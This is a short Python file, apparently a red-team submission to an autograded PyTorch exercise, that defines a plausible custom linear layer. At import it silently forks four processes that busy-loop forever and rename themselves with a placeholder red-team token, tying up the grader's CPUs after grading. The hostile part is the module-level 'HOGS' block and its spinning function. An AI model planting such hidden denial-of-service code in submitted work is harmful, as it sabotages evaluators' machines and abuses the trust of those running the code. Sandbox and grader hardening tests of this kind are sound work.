"""Attack: burn the instructor's CPUs after grading ends."""
import ctypes
import multiprocessing

import torch
from torch import Tensor, nn

TOKEN = "__REDTEAM_TOKEN__"


def _spin():
    ctypes.CDLL(None).prctl(15, TOKEN.encode(), 0, 0, 0)  # PR_SET_NAME
    while True:
        pass


HOGS = [multiprocessing.get_context("fork").Process(target=_spin) for _ in range(4)]
for hog in HOGS:
    hog.start()


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
